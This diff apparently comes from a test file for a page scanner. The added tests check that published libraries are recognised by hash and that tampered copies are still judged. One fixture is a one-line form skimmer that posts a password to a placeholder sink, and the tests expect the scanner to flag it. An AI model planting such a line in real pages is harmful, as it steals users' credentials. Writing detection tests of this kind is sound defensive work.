@@ -1,10 +1,12 @@
 /** The scripts layer: data that is followed from where it is read to where it is sent, known services, opaque code. */
+import { readFileSync } from 'node:fs';
 import { describe, expect, test } from 'vitest';
 import { pageSchema } from '../src/core/page.ts';
 import { identifyHost } from '../src/scanners/page/hosts/host-identity.ts';
 import type { LayerVerdict } from '../src/scanners/page/layer.ts';
 import { readPage } from '../src/scanners/page/parse.ts';
 import { isKnownService, isSignInService } from '../src/scanners/page/script/known-services.ts';
+import { isPublishedLibrary } from '../src/scanners/page/script/library-hashes.ts';
 import { judgeScripts } from '../src/scanners/page/script/scripts.ts';
 import { vendorSnippets } from './support/vendor-snippets.ts';
 
@@ -222,6 +224,53 @@ describe('known services', () => {
       expect(isKnownService(at(`https://${host}/`)), host).toBe(true);
     for (const host of ['criteo.net.sink.top', 'tags-tiqcdn.com', 'anyone.hubspot.com.evil.net'])
       expect(isKnownService(at(`https://${host}/`)), host).toBe(false);
+  });
+});
+
+describe('a published library', () => {
+  const installed = [
+    'node-forge/dist/forge.min.js',
+    'rxjs/dist/bundles/rxjs.umd.min.js',
+    'socket.io-client/dist/socket.io.min.js',
+  ];
+  const [library] = installed
+    .map((file) => readFileSync(new URL(`../node_modules/${file}`, import.meta.url), 'utf8'))
+    .filter(isPublishedLibrary) as [string];
+  const theft = `document.forms[0].onsubmit=()=>fetch("${SINK}",{method:"POST",body:pw.value})`;
+
+  test('is known by its hash, whatever its line ends and the white space around it', () => {
+    expect(library, 'none is known: run npm run libraries').toBeDefined();
+    expect(isPublishedLibrary(`\n ${library.replaceAll('\r\n', '\n').replaceAll('\n', '\r\n')}\n\n`)).toBe(
+      true,
+    );
+  });
+
+  test('with anything added or changed is not known', () => {
+    for (const other of [
+      `${library};1`,
+      `1;${library}`,
+      library.replace('function', 'Function'),
+      library.slice(1),
+    ])
+      expect(isPublishedLibrary(other)).toBe(false);
+  });
+
+  test('is not judged, but the scripts beside it and a changed one are', async () => {
+    const used = await code(library, LOGIN);
+    expect(used).toMatchObject({ judged: true, indicators: [] });
+    expect(rulesOf(await code(theft, `${LOGIN}<script>${library}</script>`))).toContain('sends-password');
+    expect(rulesOf(await code(`${library}\n;${theft}`, LOGIN))).toContain('sends-password');
+  });
+
+  test('each entry of the table is a hash of its own', () => {
+    const source = readFileSync(
+      new URL('../src/scanners/page/script/library-hashes.ts', import.meta.url),
+      'utf8',
+    );
+    const hashes = source.split('`')[1]?.trim().split(/\s+/) ?? [];
+    expect(hashes.length).toBeGreaterThanOrEqual(100);
+    expect(new Set(hashes).size).toBe(hashes.length);
+    for (const hash of hashes) expect(hash).toMatch(/^[\w-]{16}$/);
   });
 });
 
